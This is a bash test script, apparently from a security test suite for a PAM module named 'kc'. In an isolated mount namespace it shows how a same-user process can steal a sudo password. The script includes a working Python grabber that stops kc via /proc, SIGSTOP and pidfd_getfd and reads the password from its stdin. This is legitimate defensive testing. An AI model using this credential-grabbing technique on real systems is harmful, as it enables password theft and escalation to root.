#!/usr/bin/env bash
# With kc's auth line in common-auth, sudo's password check also starts kc as the
# invoking user with the password on standard input (a socket). Any process of that
# user (a compromised user service, a malicious script left running) may signal and
# ptrace its own processes (no Yama here; Debian's default is ptrace_scope 0): it stops
# kc as it starts and takes its standard input with pidfd_getfd, so it reads the
# password sudo was given (alice's sudo password: a way from her uid to root). Also
# checked: sudo (env_reset) does NOT pass PAM_KC_SPENT_MS on to the command (held).
# A private mount namespace gets its own /etc/pam.d/sudo and /etc/sudoers.
source "$(dirname "$0")/common.sh"
mkuser kc-atk-alice 'Alice-pw-1'
T=/tmp/attack36-logs/sudo; rm -rf $T; mkdir -p $T; chmod 755 $T
cat > $T/pam <<PAM
auth	[success=1 default=ignore]	pam_unix.so nullok
auth	requisite	pam_deny.so
auth	required	pam_permit.so
auth	optional	$PAMSO kc=$KC
account	required	pam_unix.so
session	required	pam_limits.so
session	required	pam_unix.so
PAM
printf 'Defaults env_reset\nDefaults !lecture\nkc-atk-alice ALL=(ALL) ALL\n' > $T/sudoers; chmod 440 $T/sudoers
cat > $T/grab.py <<'PY'
import ctypes, os, signal, socket, sys, time
libc = ctypes.CDLL(None, use_errno=True)
me = os.getuid(); end = time.time() + 20
while time.time() < end:
    for p in os.listdir("/proc"):
        if not p.isdigit(): continue
        try:
            if os.stat("/proc/" + p).st_uid != me or not os.readlink("/proc/%s/exe" % p).endswith("/kc"): continue
        except OSError: continue
        pid = int(p); os.kill(pid, signal.SIGSTOP)
        pidfd = os.pidfd_open(pid)
        fd = libc.syscall(438, pidfd, 0, 0)          # pidfd_getfd(pidfd, 0): kc's standard input
        s = socket.socket(fileno=fd); s.settimeout(1)
        print("captured from kc pid %d: %r" % (pid, s.recv(4096)), flush=True)
        os.kill(pid, signal.SIGCONT); sys.exit(0)
PY
chmod 644 $T/grab.py; : > $T/grab.out; chmod 666 $T/grab.out
inns $LOGDIR/sudo.log '
mount --bind '$T'/pam /etc/pam.d/sudo; mount --bind '$T'/sudoers /etc/sudoers
su -s /bin/bash kc-atk-alice -c "python3 '$T'/grab.py > '$T'/grab.out 2>&1 &"
sleep 0.5
su -s /bin/bash kc-atk-alice -c "echo Alice-pw-1 | sudo -S -p \"\" -k env" > '$T'/env.out 2>&1
sleep 1
echo "sudo command environment: $(grep -E "PAM_KC|^USER=" '$T'/env.out | tr "\n" " ")"
echo "alice-level grabber: $(cat '$T'/grab.out)"
'
